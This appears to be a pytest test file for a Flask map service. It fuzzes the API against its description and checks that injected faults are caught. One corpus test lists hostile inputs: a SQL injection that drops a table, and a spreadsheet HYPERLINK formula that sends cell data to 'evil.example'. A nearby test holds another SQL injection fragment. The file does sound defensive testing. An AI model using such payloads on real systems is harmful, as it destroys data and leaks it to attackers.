"""Every door keeps to its description, whatever it is asked; and the run that says so can see."""

import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial, wraps
from pathlib import Path
from typing import Any

import pytest
from flask import Flask, jsonify, request
from werkzeug.datastructures import ImmutableMultiDict

from mapsvc.app import create_app
from mapsvc.config import Settings
from mapsvc.errors import NotFound
from mapsvc.http import FOR_PROGRAMS
from mapsvc.places.gazetteer import Gazetteer
from mapsvc.places.regions import Regions
from tests.api.fuzzing import EXCEPTION, described, nasty_values, run, settled
from tests.conftest import FULL, PUBLIC_ROLE
from tests.postgis import PostgisCluster
from tests.web.conftest import close, fill, lend

EXAMPLES = 1000 if FULL else 25
SEEDS = (1, 2, 3) if FULL else (1,)
ABSENT = 418


@pytest.fixture(scope="module")
def on_spatialite(
    tmp_path_factory: pytest.TempPathFactory,
    spatialite_template: Path,
    gazetteer: Gazetteer,
    regions: Regions,
) -> Settings:
    """An installation with the seed directory and the samples."""
    settings = Settings(instance=tmp_path_factory.mktemp("fuzzed"))
    shutil.copy(spatialite_template, settings.folder)
    fill(settings, gazetteer, regions)
    return settings


@pytest.fixture(scope="module")
def on_postgis(
    tmp_path_factory: pytest.TempPathFactory,
    cluster: PostgisCluster,
    postgis_template: str,
    gazetteer: Gazetteer,
    regions: Regions,
) -> Settings:
    """The same on the other database."""
    url = cluster.fresh_database(template=postgis_template)
    public = cluster.as_role(url, PUBLIC_ROLE)
    folder = tmp_path_factory.mktemp("fuzzed")
    settings = Settings(instance=folder, database_url=url, public_database_url=public)
    fill(settings, gazetteer, regions)
    return settings


@contextmanager
def serving(settings: Settings, gazetteer: Gazetteer) -> Iterator[Flask]:
    lend(gazetteer, settings.folder)
    app = create_app(settings)
    yield app
    close(app)


@pytest.mark.parametrize("seed", SEEDS)
@pytest.mark.parametrize("where", ["on_spatialite", pytest.param("on_postgis", marks=pytest.mark.postgis)])
def test_every_door_keeps_to_its_description(
    where: str, seed: int, request: pytest.FixtureRequest, gazetteer: Gazetteer
) -> None:
    with serving(request.getfixturevalue(where), gazetteer) as app:
        found = run(app, examples=EXAMPLES, seed=seed)

    assert found.faults == []
    doors = {
        f"GET {described(rule.rule)}"
        for rule in app.url_map.iter_rules()
        if rule.rule.startswith(FOR_PROGRAMS)
    }
    doors.remove("GET /api/openapi.json")  # takes nothing
    assert min(found.cases[door] for door in doors) > EXAMPLES / 2


def without_a_field(view: Callable[..., Any]) -> Any:
    answer = view().json
    for place in answer["items"]:
        del place["population"]
    return jsonify(answer)


def with_a_status_of_its_own(view: Callable[..., Any], listing_id: int) -> Any:
    try:
        return view(listing_id)
    except NotFound as error:
        return jsonify(error={"message": str(error)}), ABSENT


def that_breaks_at_a_quote(view: Callable[..., Any]) -> Any:
    if "'" in request.args.get("q", ""):
        raise RuntimeError
    return view()


def that_takes_any_age(view: Callable[..., Any]) -> Any:
    kept = [(name, value) for name, value in request.args.items(multi=True) if name != "age"]
    request.args = ImmutableMultiDict(kept)
    return view()


@pytest.mark.parametrize(
    ("path", "endpoint", "fault", "check"),
    [
        ("/api/places", "api.places", without_a_field, "response_schema_conformance"),
        ("/api/listing/{listing_id}", "api.listing", with_a_status_of_its_own, "status_code_conformance"),
        ("/api/search", "api.search", that_breaks_at_a_quote, EXCEPTION),
        ("/api/search", "api.search", that_takes_any_age, "negative_data_rejection"),
    ],
)
def test_the_run_sees_a_fault(
    path: str,
    endpoint: str,
    fault: Callable[..., Any],
    check: str,
    on_spatialite: Settings,
    gazetteer: Gazetteer,
) -> None:
    with serving(on_spatialite, gazetteer) as app:
        view = app.view_functions[endpoint]
        app.view_functions[endpoint] = wraps(view)(partial(fault, view))
        found = run(app, examples=EXAMPLES, only=path)

    assert check in found.failed


def test_the_corpus_is_in_what_is_asked() -> None:
    values = nasty_values()

    assert {
        "NaN",
        "1e400",
        "٤٨.٥٨",
        "Robert'); DROP TABLE pin;--",
        '=HYPERLINK("http://evil.example/?"&A1)',
    } <= set(values)
    assert len(values) > 100


def test_only_what_breaks_a_rule_between_parameters_is_put_right() -> None:
    plain = {"lon": 7.5, "lat": 200, "from": "2027-02-30", "box": "1,x,2,0", "place": -1, "q": "' OR 1"}

    assert settled(plain) == plain
    assert settled({"lon": 1.5, "from": "2027-02-03", "to": "2027-02-01", "bbox": "1,9,2,8", "place": 5}) == {
        "lon": 1.5,
        "lat": 48.58,
        "from": "2027-02-03",
        "to": "2027-02-03",
        "bbox": "1,8,2,9",
        "place": 2973783,
    }
